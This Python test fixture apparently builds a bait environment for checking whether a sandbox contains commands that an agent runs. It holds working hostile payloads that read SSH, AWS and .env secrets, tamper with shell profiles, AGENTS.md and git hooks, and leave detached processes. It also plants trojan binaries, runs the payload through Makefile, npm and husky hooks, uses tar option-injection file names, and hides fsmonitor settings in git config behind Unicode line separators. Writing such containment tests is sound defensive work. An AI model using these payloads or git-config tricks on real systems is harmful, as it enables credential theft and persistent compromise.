"""A folder, a home directory and a place outside, full of what a hostile line would want to read, change or run."""

import base64
import codecs
import hashlib
import os
import secrets
import shutil
import stat
import subprocess
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

_PAYLOAD = """#!/bin/sh
PATH=/usr/bin:/bin
printf 'RAN%s\\n' -@TOKEN@
for place in '@OUT@' "$HOME" "$HOME/.ssh" '@WS@' '@WS@/.git/hooks' /tmp /var/tmp /etc /dev/shm; do
  : > "$place/hostile-@TOKEN@"
done 2>/dev/null
cd '@WS@' || exit
for file in "$HOME/.bashrc" AGENTS.md .git/config .git/hooks/pre-commit .env '@OUT@/notes.txt' hard.txt docs/one.txt; do
  echo "hostile" >> "$file"
done 2>/dev/null
cat .env keys/deploy.pem "$HOME/.ssh/id_ed25519" "$HOME/.netrc" "$HOME/.aws/credentials" 2>/dev/null
ln -s "$HOME/.ssh" to-ssh 2>/dev/null
setsid sleep 86421.@NUMBER@ >/dev/null 2>&1 &
true
"""
_PYTHON = """import os, socket, subprocess, sys
print("RAN" + "-@TOKEN@", flush=True)
def attempt(what):
    try:
        what()
    except BaseException as error:
        pass
def reach(kind, address, how=socket.SOCK_STREAM):
    with socket.socket(kind, how) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"@TOKEN@")
attempt(lambda: reach(socket.AF_INET, ("127.0.0.1", @PORT@)))
attempt(lambda: reach(socket.AF_INET, ("127.0.0.1", @PORT@), socket.SOCK_DGRAM))
attempt(lambda: reach(socket.AF_UNIX, "@OUT@/socket"))
attempt(lambda: reach(socket.AF_UNIX, "\\0hostile-@TOKEN@"))
for path in ("@OUT@/hostile-@TOKEN@", os.path.expanduser("~/.profile"), "@WS@/CLAUDE.md", "@WS@/.git/hooks/post-commit",
             "@WS@/hard.txt", "@OUT@/notes.txt", "/proc/sys/kernel/hostname"):
    attempt(lambda: open(path, "a").write("hostile"))
for path in ("@WS@/.env", "@WS@/keys/deploy.pem", os.path.expanduser("~/.ssh/id_ed25519"), "@OUT@/token.txt",
             "@DATA@/audit.log", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    attempt(lambda: print(open(path, errors="replace").read()))
attempt(lambda: os.chmod("@OUT@/notes.txt", 0o777))
attempt(lambda: os.utime("@OUT@/notes.txt", (1, 1)))
attempt(lambda: os.link("@OUT@/token.txt", "@WS@/docs/linked"))
attempt(lambda: os.rename("@WS@/.git", "@WS@/.git-gone"))
attempt(lambda: os.mknod("@WS@/device", 0o666 | 0o60000, os.makedev(8, 0)))
attempt(lambda: os.chmod("@WS@/evil.sh", 0o4755))
attempt(lambda: subprocess.Popen(["sleep", "86421.@NUMBER@"], start_new_session=True))
"""
_MAKEFILE = "all:\n\tsh evil.sh\ntest: all\nX := $(shell sh evil.sh)\n"
_PACKAGE = '{"name": "x", "scripts": {"test": "sh evil.sh", "preinstall": "sh evil.sh", "prepare": "sh evil.sh"}}'
_OPTIONS = ("-delete", "-fprint", "-rf", "-exec", "--checkpoint=1", "--checkpoint-action=exec=sh evil.sh", "-o", "-i")


@dataclass(frozen=True)
class Bait:
    """Where everything is; `secret` texts must never come out, `token` is in the name of all that is made."""

    base: Path
    token: str
    number: str
    secrets: Mapping[str, str]

    @property
    def folder(self) -> Path:
        return self.base / "ws"

    @property
    def home(self) -> Path:
        return self.base / "home"

    @property
    def outside(self) -> Path:
        return self.base / "outside"

    @property
    def data(self) -> Path:
        return self.base / "data"

    def fill(self, text: str, port: int) -> str:
        """Put this place's names into a text."""
        pairs = {
            "WS": self.folder,
            "OUT": self.outside,
            "HOME": self.home,
            "DATA": self.data,
            "TOKEN": self.token,
            "PORT": port,
            "NUMBER": self.number,
        }
        for name, value in pairs.items():
            text = text.replace(f"@{name}@", str(value))
        return text

    def write(self, path: str, text: str, mode: int = 0o644) -> None:
        """Write a file of the folder, or by an absolute path one elsewhere."""
        file = self.folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        file.chmod(mode)

    def git(self, *words: str) -> str:
        """Run git in the folder, with nothing of the folder's own running with it."""
        safe = ("-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "-c", "user.name=A")
        command = ("git", *safe, "-c", "user.email=a@b", *words)
        variables = {**os.environ, "HOME": str(self.base), "GIT_OPTIONAL_LOCKS": "0"}
        done = subprocess.run(command, cwd=self.folder, env=variables, check=True, capture_output=True)
        return done.stdout.decode(errors="replace")

    def leaked(self, text: bytes) -> list[str]:
        """Name the secrets that a text holds, as they are or in one of the usual disguises."""
        plain = text.lower()
        packed = bytes(plain.translate(None, b" \t\r\n\\x:,-"))
        return [
            name for name, secret in self.secrets.items() if any(_in(form, plain, packed) for form in _forms(secret))
        ]


def _in(form: bytes, plain: bytes, packed: bytes) -> bool:
    return form.lower() in plain or form.lower() in packed


def _forms(secret: str) -> Iterator[bytes]:
    raw = secret.encode()
    yield from (raw, raw[::-1], raw.hex().encode(), codecs.encode(secret, "rot13").encode(), base64.b32encode(raw)[:-8])
    for shift in range(3):
        yield base64.b64encode(b"x" * shift + raw)[4:-4]
    yield "".join(f"{byte:o}" for byte in raw).encode()
    yield "%".join(f"{byte:x}" for byte in raw).encode()


def lay(base: Path, port: int, token: str) -> Bait:
    """Make all of it."""
    names = ("env", "key", "ssh", "aws", "netrc", "gh", "local", "history")
    bait = Bait(base, token, str(int(token, 16)), {name: f"qz{secrets.token_hex(11)}" for name in names})
    for folder in (bait.folder, bait.home, bait.outside):
        folder.mkdir(parents=True, exist_ok=True)
    _lay_home(bait)
    _lay_folder(bait, port)
    _lay_repository(bait)
    _lay_secrets(bait)
    return bait


def _lay_home(bait: Bait) -> None:
    home, known = bait.home, bait.secrets
    for name, text in {
        ".ssh/id_ed25519": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{known['ssh']}\n-----END OPENSSH PRIVATE KEY-----\n",
        ".aws/credentials": f"[default]\naws_secret_access_key = {known['aws']}\n",
        ".netrc": f"machine example.com login me password {known['netrc']}\n",
        ".config/gh/hosts.yml": f"github.com:\n  oauth_token: {known['gh']}\n",
        ".bash_history": f"mysql -p{known['history']}\n",
        ".bashrc": "true\n",
        ".profile": "true\n",
        ".gitconfig": "[user]\n\tname = A\n\temail = a@b\n",
        "work/notes.txt": "mine\n",
    }.items():
        bait.write(str(home / name), text, 0o600)
    bait.write(str(bait.outside / "token.txt"), "mine\n", 0o600)
    bait.write(str(bait.outside / "notes.txt"), "mine\n")
    bait.write(str(bait.outside / "folder/deep.txt"), "mine\n")


def _lay_folder(bait: Bait, port: int) -> None:
    for name, text, mode in (
        ("evil.sh", bait.fill(_PAYLOAD, port), 0o755),
        ("evil.py", bait.fill(_PYTHON, port), 0o755),
        ("conftest.py", bait.fill(_PYTHON, port), 0o644),
        ("Makefile", _MAKEFILE, 0o644),
        ("package.json", _PACKAGE, 0o644),
        ("AGENTS.md", "Be kind.\n", 0o644),
        ("a.txt", "one\ntwo ] three\n", 0o644),
        ("b.txt", "a[$(sh evil.sh)]\n", 0o644),
        ("docs/one.txt", "one\n", 0o644),
        ("other/one.txt", "two\n", 0o644),
        ("src/main.py", "def hello():\n    pass\n", 0o644),
        ("test_it.py", "def test_it():\n    pass\n", 0o644),
        ("prog.awk", 'BEGIN { system("sh evil.sh") }\n', 0o644),
        ("prog.sed", "1e sh evil.sh\n", 0o644),
        (".husky/pre-commit", "sh evil.sh\n", 0o755),
        (".ackrc", "--follow\n--pager=sh evil.sh\n", 0o644),
        ("hard.txt", "", 0o644),
        (".gitignore", ".env*\nkeys/\nnode_modules/\n.venv/\n*.pyc\n", 0o644),
    ):
        bait.write(name, text, mode)
    for name in ("ls", "cat", "nproc", "python3", "git", "rg", "jq"):
        shutil.copy(bait.folder / "evil.sh", _below(bait.folder / "node_modules/.bin" / name))
    for name in ("python", "nproc", "activate"):
        shutil.copy(bait.folder / "evil.sh", _below(bait.folder / ".venv/bin" / name))
    bait.write(".venv/pyvenv.cfg", "home = /usr/bin\n")
    for name in _OPTIONS:
        bait.write(f"e/{name}", "x\n")
    (bait.folder / "hard.txt").unlink()
    os.link(bait.outside / "notes.txt", bait.folder / "hard.txt")
    for name, target in {
        "out": str(bait.outside),
        "to-home": str(bait.home),
        "docs/link": "../.env",
        "other/link": "../a.txt",
        "to-hooks": ".git/hooks",
        "to-agents": "AGENTS.md",
        "new-rules": "CLAUDE.md",
        "up": "../..",
        "shadow": "/etc/shadow",
    }.items():
        (bait.folder / name).symlink_to(target)


def _below(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _lay_repository(bait: Bait) -> None:
    bait.git("init", "-q", "-b", "main")
    bait.git("add", "-A")
    bait.git("commit", "-q", "-m", "one")
    bait.git("branch", "side")
    shutil.rmtree(bait.folder / ".git/hooks", ignore_errors=True)
    (bait.folder / ".git/hooks").mkdir()
    bait.write("a.txt", "one\ntwo ] three\nfour\n")


def _lay_secrets(bait: Bait) -> None:
    known = bait.secrets
    bait.write(".env", f"PLAIN={known['env']}\n", 0o600)
    bait.write(".env.local", f"PLAIN={known['local']}\n", 0o600)
    bait.write("keys/deploy.pem", f"-----BEGIN PRIVATE KEY-----\n{known['key']}\n-----END PRIVATE KEY-----\n", 0o600)


def with_programs_for_git(bait: Bait) -> None:
    """Let the repository's settings and hooks name the payload."""
    program = f"sh {bait.folder}/evil.sh"
    for name in ("core.fsmonitor", "core.pager", "core.sshCommand", "diff.external", "filter.x.clean", "alias.st"):
        bait.git("config", name, program)
    bait.write(".gitattributes", "* filter=x diff=x\n")
    for hook in ("post-index-change", "pre-commit", "post-checkout"):
        bait.write(f".git/hooks/{hook}", f"#!/bin/sh\n{program}\n", 0o755)


def with_hidden_setting(bait: Bait) -> None:
    """Let a character that only some take for the end of a line hide a setting from a reader that is not git."""
    config = bait.folder / ".git/config"
    hidden = f'[core]\n\teol = "x\u2028[color] #"\n\tfsmonitor = "sh {bait.folder}/evil.sh"\n'
    config.write_text(config.read_text() + hidden)


def with_continued_setting(bait: Bait) -> None:
    """The same by a line that goes on in the next one."""
    config = bait.folder / ".git/config"
    hidden = f'[core]\n\teol = lf \\\n[color]\n\tfsmonitor = "sh {bait.folder}/evil.sh"\n'
    config.write_text(config.read_text() + hidden)


def with_files_elsewhere(bait: Bait) -> None:
    """Let the repository take the home directory for its files."""
    config = bait.folder / ".git/config"
    config.write_text(config.read_text() + f'[core]\n\teol = "x\u0085[color] #"\n\tworktree = {bait.home}\n')


PREPARED = {
    "git-programs": with_programs_for_git,
    "git-hidden": with_hidden_setting,
    "git-continued": with_continued_setting,
    "git-elsewhere": with_files_elsewhere,
}
"""Further things that the rows of a file may want."""


def snapshot(folder: Path) -> dict[str, str]:
    """Describe everything below a folder: kind, mode, content or target; git's index is left to git."""
    found: dict[str, str] = {}
    waiting = [folder]
    while waiting:
        path = waiting.pop()
        name = os.fsencode(path.relative_to(folder)).decode(errors="backslashreplace")
        facts = path.lstat()
        text = f"{stat.filemode(facts.st_mode)} {facts.st_uid}"
        if path.is_symlink():
            text += f" -> {path.readlink()}"
        elif stat.S_ISREG(facts.st_mode):
            text += " " + hashlib.sha256(path.read_bytes()).hexdigest()
        elif stat.S_ISDIR(facts.st_mode):
            waiting += path.iterdir()
        if name != ".git/index":
            found[name] = text
    return found
